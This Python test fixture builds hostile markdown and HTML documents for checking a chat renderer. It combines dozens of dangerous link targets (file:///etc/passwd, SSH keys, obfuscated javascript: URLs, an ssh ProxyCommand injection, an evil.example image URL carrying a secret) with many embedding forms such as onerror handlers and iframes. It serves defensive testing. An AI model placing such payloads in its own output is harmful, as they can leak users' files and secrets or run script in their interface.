"""Documents that a hostile model may send: every form of a link or picture with every kind of target.

Each is a name, the text, and words of it that are not shown by design: titles, labels, what else a fence says
behind its language, and where a picture comes from but for the host.
"""

from __future__ import annotations

import re
from html import unescape
from typing import NamedTuple

from tests.ui.hostile_markup import BY_HAND


class Hostile(NamedTuple):
    """A document, and what of it is hidden by design."""

    name: str
    text: str
    hidden: str = ""

    @property
    def words(self) -> set[str]:
        """What must be on the page: in the text, or in the address of a link."""
        hidden = set(_WORD.findall(unescape(self.hidden)))
        return set(_WORD.findall(unescape(self.text))) - hidden


_WORD = re.compile(r"[A-Za-z]{3,}")

TARGETS = {
    "file": "file:///etc/passwd",
    "file without slashes": "FILE:etc/passwd",
    "file with host": "file://evil.example/share/a.png",
    "absolute": "/etc/passwd",
    "relative": "../../etc/passwd",
    "home": "~/.ssh/id_rsa",
    "share": "//evil.example/share",
    "backslash share": "\\\\\\\\evil.example\\\\share\\\\a.png",
    "drive": "C:/Windows/win.ini",
    "device": "\\\\\\\\.\\\\pipe\\\\name",
    "data image": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
    "data page": "data:text/html,alert",
    "data svg": "data:image/svg+xml;utf8,onload",
    "javascript": "javascript:alert(1)",
    "capitals": "JaVaScRiPt:alert(1)",
    "entities": "&#106;ava&Tab;script&colon;alert",
    "hex entities": "&#x6a;&#x61;vascript:alert",
    "vbscript": "vbscript:msgbox",
    "smb": "smb://evil.example/share",
    "ssh": "ssh://-oProxyCommand=touch/x",
    "telnet": "telnet://evil.example",
    "ftp": "ftp://evil.example/file",
    "tel": "tel:110",
    "view source": "view-source:https://evil.example",
    "blob": "blob:https://evil.example/abc",
    "jar": "jar:file:///abc!/def",
    "own resource": "qrc:/icons/copy.svg",
    "resource path": ":/icons/copy.svg",
    "own action": "arvae-action:copy-code/t1/0",
    "own action in capitals": "ARVAE-ACTION:settings",
    "own action escaped": "arvae-action&colon;retry/t1",
    "own action encoded": "arvae-action%3Aretry/t1",
    "own formula": "arvae-formula:1",
    "anchor": "#transcript",
    "query": "?delete=all",
    "remote": "https://evil.example/a.png?secret=word",
    "remote plain": "HTTP://evil.example/a.png",
    "user in address": "https://good.example@evil.example/",
    "punycode": "https://xn--pple-43d.example/",
    "looks alike": "https://\u0430pple.example/",
    "number": "http://2130706433/",
    "loopback": "http://127.0.0.1:9/admin",
    "no host": "http:///etc/passwd",
    "half": "https:",
    "encoded": "file%3A%2F%2F%2Fetc%2Fpasswd",
    "encoded scheme": "java%73cript:alert",
    "override": "https://evil.example/\u202egnp.exe",
    "isolate": "file:///\u2066etc\u2069/passwd",
    "tags": "https://evil.example/\U000e0061\U000e0062",
    "zero width": "java\u200bscript:alert",
    "bell": "java\x07script:alert",
    "NUL": "file:///etc\x00/passwd",
    "mail": "mailto:someone@evil.example?attach=/etc/passwd",
    "intent": "intent://evil.example#Intent;scheme=http;end",
}
# TARGET stands for a target.
FORMS = {
    "link": "[words](TARGET)",
    "link in angles": "[words](<TARGET>)",
    "link with title": '[words](TARGET "Hovering")',
    "link with title in brackets": "[words](TARGET (Hovering))",
    "autolink": "<TARGET>",
    "bare": "See TARGET now.",
    "picture": "![alternative](TARGET)",
    "picture in angles": "![alternative](<TARGET> 'Hovering')",
    "picture without words": "![](TARGET)",
    "picture in a link": "[![alternative](TARGET)](TARGET)",
    "picture in link text": "[before ![alternative](TARGET) after](https://good.example)",
    "link in a picture": "![before [inner](TARGET) after](TARGET)",
    "reference": "[r]: TARGET\n\n[words][r]",
    "collapsed": "[rr]: <TARGET> 'Hovering'\n\n[rr][] and [rr]",
    "picture by reference": "[r]: TARGET\n\n![alternative][r]",
    "reference that comes later": "[words][r]\n\n[r]: TARGET",
    "reference in a quote": "> [r]: TARGET\n\n[words][r]",
    "table": "| head |\n|---|\n| [words](TARGET) |\n| ![alternative](https://good.example) |",
    "picture in a table": "| head | other |\n|---|:-:|\n| ![alternative](TARGET) | <b> |",
    "table head": "| [words](TARGET) | [more](<TARGET>) |\n|---|---|",
    "list": "- [words](TARGET)\n  1. [ ] [task](TARGET)",
    "nested": "> - > 1. [words](TARGET)",
    "heading": "# [words](TARGET)\n\n[under](TARGET)\n===",
    "picture in a heading": "## ![alternative](TARGET)",
    "emphasis": "**[words](TARGET)** *[more](TARGET)* ~~[gone](TARGET)~~",
    "code in a link": "[`code`](TARGET)",
    "footnote": "Claim[^1]\n\n[^1]: [words](TARGET) and <TARGET>",
    "footnote of its own name": "Claim[^note]\n\n[^note]: TARGET",
    "fence": "```\n[words](TARGET)\n```",
    "fence in HTML": "```html\n<img src='TARGET'>\n```",
    "diagram": "```mermaid\ngraph LR\nclick node 'TARGET'\n```",
    "drawing": "```svg\n<svg onload='TARGET'><image href='TARGET'/></svg>\n```",
    "indented": "    ![alternative](TARGET)",
    "formula": "$\\href{TARGET}{words}$ and $\\includegraphics{TARGET}$",
    "display formula": "$$\n\\input{TARGET}\n\\include{TARGET}\n$$",
    "formula in brackets": "\\(\\url{TARGET}\\) and \\[\\read TARGET\\]",
    "HTML link": "<a href='TARGET' onclick='steal()'>words</a>",
    "HTML picture": "<img src='TARGET' onerror='steal()'>",
    "HTML block": '<div>\n<img src="TARGET">\n</div>',
    "HTML style": "<style>@import 'TARGET'; body { background: url(TARGET) }</style>",
    "HTML sheet": "<link rel='stylesheet' href='TARGET'>",
    "HTML frame": "<iframe src='TARGET'></iframe><object data='TARGET'></object><embed src='TARGET'>",
    "HTML refresh": "<meta http-equiv='refresh' content='0;url=TARGET'>\n<base href='TARGET'>",
    "HTML drawing": "<svg onload='steal()'><image xlink:href='TARGET'/></svg>",
    "HTML sound": "<video src='TARGET' autoplay poster='TARGET'></video><audio src='TARGET'>",
    "HTML form": "<form action='TARGET'><input type=image src='TARGET'></form>",
    "HTML comment": "<!-- ![alternative](TARGET) -->",
    "HTML written in entities": "&lt;img src=&quot;TARGET&quot;&gt;",
    "HTML in a link": "[<img src='x'>words](TARGET)",
    "open link": "[words](TARGET",
    "picture that is open": "![alternative](TARGET",
}
_EACH = 6  # the share of the combinations that is tried at each time


def documents(*, all_of_them: bool = False) -> list[Hostile]:
    """Forms and targets, combined so that every one of them is used, and what was written by hand."""
    combined = [
        Hostile(f"{form}: {target}", FORMS[form].replace("TARGET", TARGETS[target]), _hidden(form, target))
        for number, form in enumerate(FORMS)
        for other, target in enumerate(TARGETS)
        if all_of_them or (number * 5 + other) % _EACH == 0
    ]
    return combined + [Hostile(name, text, hidden) for name, (text, hidden) in BY_HAND.items()]


def _hidden(form: str, target: str) -> str:
    address = TARGETS[target]
    is_picture = "![" in FORMS[form]
    is_remote = address.lower().startswith(("http:", "https:"))
    # The definition of what is never referred to shows nothing.
    is_unused = form == "reference that comes later"
    return "Hovering http https " + (address if is_unused or (is_picture and is_remote) else "")
